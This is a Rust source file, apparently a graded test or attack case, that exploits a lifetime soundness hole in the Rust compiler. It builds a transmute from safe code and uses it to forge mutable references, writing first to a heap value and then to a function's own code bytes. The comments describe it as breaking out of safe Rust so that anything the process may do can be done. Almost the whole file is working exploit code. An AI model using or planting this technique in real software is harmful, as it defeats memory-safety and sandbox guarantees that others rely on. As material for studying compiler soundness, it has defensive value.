// Breaks out of safe Rust by a hole in the compiler, and writes to where it likes.
// Graded: any

const UNIT: &&() = &&();

fn lengthen<'a, 'b, T>(_: &'a &'b (), value: &'b mut T) -> &'a mut T {
    value
}

fn longer<'a, 'b, T>(value: &'a mut T) -> &'b mut T {
    let lengthen: for<'x> fn(_, &'x mut T) -> &'b mut T = lengthen;
    lengthen(UNIT, value)
}

enum Either<A, B> {
    One(Option<Box<A>>),
    Other(Option<Box<B>>),
}

/// Takes the bytes of a value for another.
fn transmute<A, B>(value: A) -> B {
    let mut either: Either<A, B> = Either::Other(None);
    let Either::Other(other) = &mut either else { unreachable!() };
    let other = longer(other);
    either = Either::One(Some(Box::new(value)));
    black_box(&mut either);
    *other.take().expect("it holds what was put there")
}

impl Attack for Raft {
    fn made(self: &Arc<Self>) {
        let local = Box::new(0u64);
        let place = &raw const *local as usize;
        let written: &'static mut u64 = transmute(place);
        *written = 7;
        assert_eq!(*black_box(local), 7, "the hole is closed");
        // From here on everything that the process may do can be done.
        let anywhere: &'static mut [u8; 64] = transmute(main_of_the_program as usize);
        anywhere[0] = 0;
    }
}

fn main_of_the_program() {}
